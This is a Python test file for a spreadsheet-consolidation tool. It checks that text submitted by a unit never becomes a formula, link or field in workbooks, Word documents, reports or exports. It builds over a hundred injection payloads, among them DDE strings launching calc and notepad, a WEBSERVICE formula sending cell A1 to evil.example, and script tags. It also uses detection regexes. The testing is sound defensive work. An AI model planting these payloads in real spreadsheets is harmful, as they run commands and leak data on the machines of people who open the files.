"""No text of a unit becomes a formula, a link or an address of anything, wherever we write it."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

import pyarrow.parquet
import pytest
from msgspec.structs import replace

from tests.support import crafted
from tests.support.books import write_submission
from xlgoals import operations
from xlgoals.read.opening import open_book
from xlgoals.returning import return_packages
from xlgoals.write.parquet import parquet_files

_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", " =", "'=", '"=', "=+", "=-", "==")
_BODIES = (
    "1+1",
    "cmd|'/c calc'!A0",
    'HYPERLINK("http://evil.example","点")',
    'WEBSERVICE("http://evil.example/?"&A1)',
    "'[evil.xlsx]Sheet1'!A1",
    'IMPORTXML(CONCAT("http://evil.example"),"//a")',
    "SUM(1,2)*cmd|' /C notepad'!'A1'",
)
_OTHERS = (
    *("http://evil.example", "https://evil.example/a.exe", "ftp://evil.example", "mailto:a@evil.example"),
    *("file:///c:/windows/win.ini", "\\\\evil\\share\\a.xlsx", "internal:'项目'!A1", "external:a.xlsx"),
    *("{=1+1}", "<f>1+1</f>", "]]><f>1</f>", "&lt;f&gt;", "javascript:alert(1)", "<script>alert(1)</script>"),
    *('DDE("cmd";"/c calc";"a")', "%0A=1+1", "_x003D_1+1", "_x000D_=1", "=1+1\u0000", "\ufeff=1+1"),
)
# Where a text may stand as a text; a chart keeps the names that it shows.
TEXTS = ("xl/comments/comment", "xl/sharedStrings", "xl/worksheets/sheet", "xl/charts/chart")
PAYLOADS = (*(start + body for start in _STARTS for body in _BODIES), *_OTHERS)


@pytest.fixture(scope="module")
def submission_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A unit's workbook with a payload in every text of every row."""
    folder = tmp_path_factory.mktemp("in")
    source = folder / "a.xlsx"
    source.write_bytes(crafted.clean())
    (base,) = operations.load(source)
    project = base.projects[0]
    one = project.indicators[0]
    rows = tuple(
        replace(one, name=payload, description=payload, target=payload, waiver=payload)
        for payload in map(_storable, PAYLOADS)
    )
    project = replace(
        project, indicators=rows, purpose=PAYLOADS[0], goals=PAYLOADS[1], waiver=PAYLOADS[2], type=PAYLOADS[3]
    )
    return write_submission(source, replace(base, projects=(project,), contact={"filler": PAYLOADS[1]}))


def _storable(text: str) -> str:
    """No cell holds a zero byte, not even escaped."""
    return text.replace("\u0000", "\u0001")


def formulas(path: Path) -> dict[str, int]:
    """How many formulas, links and ways out each part of a workbook holds."""
    found = {}
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            content = package.read(name)
            if name.startswith("xl/worksheets/sheet"):
                found[name] = len(re.findall(rb"<f[ >]", content))
            assert b"evil.example" not in content or name.startswith(TEXTS), name
            if name.startswith("xl/charts/"):
                assert [text for text in re.findall(rb"<c:f>([^<]*)</c:f>", content) if b"evil" in text] == []
            if name.endswith(".rels"):
                assert b"evil" not in content, name
            assert "externalLink" not in name
            assert name != "xl/connections.xml"
    return found


def test_there_are_as_many_payloads_as_promised() -> None:
    assert len(set(PAYLOADS)) >= 100


def test_nothing_in_a_units_workbook_is_a_formula(submission_file: Path, tmp_path: Path) -> None:
    """The same rows with harmless texts give the same number of formulas: those of the template."""
    (read,) = operations.load(submission_file)
    assert [row.target for row in read.projects[0].indicators] == [_storable(text) for text in PAYLOADS]
    harmless = [
        replace(row, name="甲", description="乙", target="丙", waiver="丁")
        for row in read.projects[0].indicators
    ]
    plain = replace(
        read.projects[0], indicators=tuple(harmless), purpose="甲", goals="乙", waiver="丙", type="丁"
    )
    other = write_submission(
        tmp_path / "plain.xlsx", replace(read, projects=(plain,), contact={"filler": "丁"})
    )
    assert formulas(submission_file) == formulas(other)


def test_nothing_in_the_master_is_a_formula_but_ours(submission_file: Path, tmp_path: Path) -> None:
    """Every formula of the master has no text of a unit in it, every link leads to a source or inside."""
    target = tmp_path / "master.xlsx"
    operations.consolidate([submission_file], target)
    formulas(target)
    book = open_book(target).book
    texts = {cell.text for sheet in book.sheets for cell in sheet.cells.values()}
    assert {_storable(text) for text in PAYLOADS} <= texts
    told = [text for sheet in book.sheets for text in sheet.formulas.values()]
    assert [text for text in told if re.search(r"cmd|evil|WEBSERVICE|IMPORTXML|HYPERLINK|DDE", text)] == []
    for sheet in book.sheets:
        payload_cells = {place for place, cell in sheet.cells.items() if cell.text in PAYLOADS}
        assert payload_cells.isdisjoint(sheet.formulas)
    with zipfile.ZipFile(target) as package:
        rels = [package.read(name).decode() for name in package.namelist() if "worksheets/_rels" in name]
    outside = [link for text in rels for link in re.findall(r'Target="([^"]*)" TargetMode="External"', text)]
    assert {link.partition("#")[0].rpartition("/")[2] for link in outside} <= {submission_file.name}


def test_nothing_in_the_printed_form_is_a_formula(submission_file: Path, tmp_path: Path) -> None:
    operations.print_official(submission_file, tmp_path / "print.xlsx")
    assert sum(formulas(tmp_path / "print.xlsx").values()) == 0


def test_json_gives_the_texts_as_they_are(submission_file: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "xlgoals", "export", str(submission_file)], capture_output=True, check=True
    )
    document = json.loads(done.stdout)
    assert all(json.dumps(_storable(text))[1:-1] in json.dumps(document) for text in PAYLOADS)


def test_a_cell_of_the_submission_is_no_formula_even_when_it_says_so(tmp_path: Path) -> None:
    """Payloads stored by another program as text, in the cell itself, reach the master as text."""
    path = tmp_path / "a.xlsx"
    path.write_bytes(crafted.with_parts({crafted.INDICATORS: crafted.text("E4", escape(PAYLOADS[1]))}))
    operations.consolidate([path], tmp_path / "m.xlsx")
    sheets = open_book(tmp_path / "m.xlsx").book.sheets
    found = [
        sheet.formulas.get(place)
        for sheet in sheets
        for place, cell in sheet.cells.items()
        if cell.text == PAYLOADS[1]
    ]
    assert found
    assert set(found) == {None}


def test_nothing_in_a_package_for_the_unit_is_a_formula(submission_file: Path, tmp_path: Path) -> None:
    """The marked copy holds the payloads in cells, notes and the list of findings, all as text."""
    master = tmp_path / "m.xlsx"
    operations.consolidate([submission_file], master)
    [package] = return_packages(master, tmp_path / "back").packages
    own, marked = formulas(submission_file), formulas(package.workbook)
    assert sum(marked.values()) == sum(own.values())
    assert foreign_formulas(package.workbook) == []
    notes = b"".join(parts(package.workbook, "comments"))
    assert b"evil.example" in notes
    assert ways_out_of(package.notice) == []


def test_nothing_in_a_word_document_is_a_field_or_a_link(submission_file: Path, tmp_path: Path) -> None:
    """But for the payload that no Word document can hold; that one is refused with its cell."""
    (read,) = operations.load(submission_file)
    rows = tuple(row for row in read.projects[0].indicators if "\1" not in row.name)
    submission = replace(read, projects=(replace(read.projects[0], indicators=rows),))
    operations.publish_submissions((submission,), tmp_path / "p.docx", force=True)
    assert ways_out_of(tmp_path / "p.docx") == []
    assert any(b"evil.example" in part for part in parts(tmp_path / "p.docx", "word/document.xml"))


def test_nothing_in_a_comparison_is_a_formula(submission_file: Path, tmp_path: Path) -> None:
    other = tmp_path / "a.xlsx"
    other.write_bytes(crafted.clean())
    operations.diff(other, submission_file, tmp_path / "diff.xlsx")
    assert foreign_formulas(tmp_path / "diff.xlsx") == []
    assert any(b"evil.example" in part for part in parts(tmp_path / "diff.xlsx", "xl/"))


def test_a_report_shows_payloads_as_text(submission_file: Path, tmp_path: Path) -> None:
    operations.consolidate([submission_file], tmp_path / "m.xlsx")
    operations.report(tmp_path / "m.xlsx", tmp_path / "r.html")
    page = (tmp_path / "r.html").read_text("utf-8")
    assert re.findall(r'(?:href|src)="[^"#]*(?:evil|script)[^"]*"', page) == []
    assert "<script>alert" not in page
    assert "<f>" not in page


def test_parquet_holds_the_very_texts(submission_file: Path, tmp_path: Path) -> None:
    """A table for other programs changes nothing: no quote in front, nothing left out."""
    operations.consolidate([submission_file], tmp_path / "m.xlsx", parquet=tmp_path / "p")
    table = pyarrow.parquet.read_table(parquet_files(tmp_path / "p")["indicators"])
    assert table.column("target").to_pylist() == [_storable(text) for text in PAYLOADS]


def parts(path: Path, beginning: str) -> list[bytes]:
    """The parts of a package whose name holds that."""
    with zipfile.ZipFile(path) as package:
        return [package.read(name) for name in package.namelist() if beginning in name]


def foreign_formulas(path: Path) -> list[str]:
    """Formulas with anything of a payload in them, or in a cell whose text is one."""
    found = []
    for sheet in open_book(path).book.sheets:
        held = {place for place, cell in sheet.cells.items() if cell.text in PAYLOADS}
        found += [
            text
            for place, text in sheet.formulas.items()
            if place in held or re.search(r"cmd|evil|WEBSERVICE|IMPORTXML|DDE", text)
        ]
    return found


def ways_out_of(document: Path) -> list[str]:
    """Fields and links to outside in a Word document that a text of a unit could have made."""
    body = b"".join(parts(document, ".xml")).decode()
    fields = re.findall(r"<w:instrText[^>]*>([^<]*)<", body) + re.findall(
        r'<w:fldSimple w:instr="([^"]*)"', body
    )
    relations = b"".join(parts(document, ".rels")).decode()
    targets = re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', relations)
    return [text for text in (*fields, *targets) if re.search(r"evil|cmd|DDE|IMPORT|script|file:", text)]
